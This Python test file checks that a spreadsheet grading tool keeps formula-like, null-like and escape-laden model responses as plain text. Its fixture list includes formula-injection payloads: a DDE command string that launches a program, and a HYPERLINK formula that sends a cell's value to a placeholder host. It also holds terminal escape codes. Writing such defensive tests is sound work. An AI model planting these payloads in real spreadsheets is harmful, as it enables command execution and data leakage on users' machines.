"""Cases 15, 20, 24, 28: responses that look like formulas or like nothing, letters that mean another run in each ticket."""

import re
import zipfile
from pathlib import Path

import openpyxl
import pytest

from lark_sheets.errors import DataError
from lark_sheets.usecases.loading import load_one
from lark_sheets.usecases.revealing import reveal
from tests.cases.kit import bench
from tests.desk import desk, results, told
from tests.factories import BASE

FORMULA_LIKE = [
    "=2+2 est la bonne formule, dit le client.",
    "- Premier point\n- Deuxième point",
    "+33 1 00 00 00 00 est le standard.",
    "@support va répondre",
    '=HYPERLINK("http://example.invalid/?"&A2,"ici")',
    "'déjà une apostrophe",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
]
NOTHING_LIKE = ["None", "NA", "n/a", "null", "nan", "N/A", "-", "#N/A"]


def test_case_15_texts_that_look_like_formulas_stay_text(tmp_path: Path) -> None:
    texts = dict(zip(BASE, FORMULA_LIKE, strict=True))
    b = bench(tmp_path, texts=texts)
    for name, text in texts.items():
        assert b.cell(name, "response").data_type == "s"
        assert b.cell(name, "response").value == text
    campaign = load_one(b.save(), desk()).campaign
    assert {r.text for r in campaign.responses} == set(FORMULA_LIKE)
    assert results(b.path)["overall"]["points"] == 49


def test_case_15_a_response_that_became_a_formula_or_an_error_is_told_and_its_grades_count(
    tmp_path: Path,
) -> None:
    b = bench(tmp_path)
    b.cell("K01-A", "response").value = "=2+2"
    wrong = b.cell("K01-D", "response")
    wrong.value, wrong.data_type = "#NAME?", "e"
    found = b.results()
    assert [p["cell"] for p in told(found, "response_is_formula")] == [b.address("K01-A", "response")]
    assert [(p["cell"], p["found"]) for p in told(found, "response_is_error")] == [
        (b.address("K01-D", "response"), "#NAME?")
    ]
    assert found["overall"]["points"] == 49


def test_case_20_each_ticket_has_its_own_key(tmp_path: Path) -> None:
    """Run A has the grades of K01-A and K02-A, and so on, whatever letters they were drawn."""
    b = bench(tmp_path)
    path = b.save()
    reveal(path.parent, desk())
    runs = {run["run"]: run for run in results(path)["runs"]}
    for letter in "ABCD":
        own = [BASE[f"K01-{letter}"], BASE[f"K02-{letter}"]]
        run = runs[f"run {letter}"]
        assert run["points"] == sum(map(sum, own))
        assert run["ready"] == sum(g[0] == 2 and 0 not in g for g in own)
        assert run["zeros"]["completeness"] == sum(g[1] == 0 for g in own)


def test_case_20_no_run_is_named_in_any_part_before_the_reveal(tmp_path: Path) -> None:
    b = bench(tmp_path)
    for path in tmp_path.joinpath("campaign").rglob("*.xlsx"):
        with zipfile.ZipFile(path) as archive:
            for part in archive.namelist():
                data = archive.read(part)
                for encoding in ("utf-8", "utf-16-le"):
                    assert not re.search("run [A-D]".encode(encoding).replace(b"[A-D]", b"[A-D]"), data), (
                        path,
                        part,
                    )
    assert results(b.save(), key=b.key)["runs"] == []


def test_case_20_reveal_is_refused_while_one_grade_is_missing(tmp_path: Path) -> None:
    b = bench(tmp_path)
    b.cell("K01-A", "format").value = None
    b.save()
    with pytest.raises(DataError) as caught:
        reveal(b.path.parent, desk())
    assert caught.value.problems[-1].code == "reveal_refused"
    assert results(b.path, key=b.key)["revealed"] is False


@pytest.mark.parametrize("line_end", ["\n", "\r\n", "\r"])
def test_case_24_line_ends_change_no_fingerprint(tmp_path: Path, line_end: str) -> None:
    """Issued with LF, saved back as CRLF or CR: the row is the same row."""
    text = "Bonjour,\nvoici la suite."
    b = bench(tmp_path, texts={name: text if name == "K01-A" else f"autre {name}" for name in BASE})
    b.cell("K01-A", "response").value = text.replace("\n", line_end)
    found = b.results()
    assert not told(found, "row_identity_broken")
    assert found["overall"]["points"] == 49


def test_case_24_escapes_of_the_file_format_are_text_when_a_model_wrote_them(tmp_path: Path) -> None:
    odd = {
        "K01-D": "le code _x000D_ est un texte",
        "K02-A": "mot_x0041_mot",
        "K02-B": "cloche \u0007 et tube \u001b[31m",
    }
    b = bench(tmp_path, texts={name: odd.get(name, f"texte {name}") for name in BASE})
    campaign = load_one(b.path, desk()).campaign
    assert set(odd.values()) <= {r.text for r in campaign.responses}


def test_case_28_words_for_nothing_are_words(tmp_path: Path) -> None:
    texts = dict(zip(BASE, NOTHING_LIKE, strict=True))
    b = bench(tmp_path, texts=texts, graders=("NA", "None"))
    for name, word in texts.items():
        b.cell(name, "reason", "NA").value = word
    found = b.results()
    assert {r["grader"] for r in found["responses"]} == {"NA", "None"}
    assert {r.text for r in load_one(b.path, desk()).campaign.responses} == set(NOTHING_LIKE)
    assert found["overall"]["points"] == 49
    assert found["agreement"]["all_criteria"] == {"equal": 8, "n": 8} | {
        k: v for k, v in found["agreement"]["all_criteria"].items() if k not in ("equal", "n")
    }


def test_what_openpyxl_reads_back_is_what_was_given(tmp_path: Path) -> None:
    b = bench(tmp_path, texts=dict(zip(BASE, FORMULA_LIKE, strict=True)))
    formulas = [
        cell
        for row in openpyxl.load_workbook(b.path)[b.sheet.title].iter_rows()
        for cell in row
        if cell.column == b.column("response") and cell.row > b.header and cell.data_type == "f"
    ]
    assert formulas == []
